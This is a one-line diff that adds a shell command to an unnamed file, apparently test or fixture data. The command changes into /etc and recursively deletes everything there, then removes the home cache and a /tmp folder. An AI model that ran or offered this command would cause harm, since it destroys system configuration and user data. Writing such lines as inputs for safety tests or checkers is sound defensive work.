@@ -1,0 +1,1 @@
+cd /etc && rm -rf * ; cd; rm -rf .cache; (cd /tmp; rm -rf x)
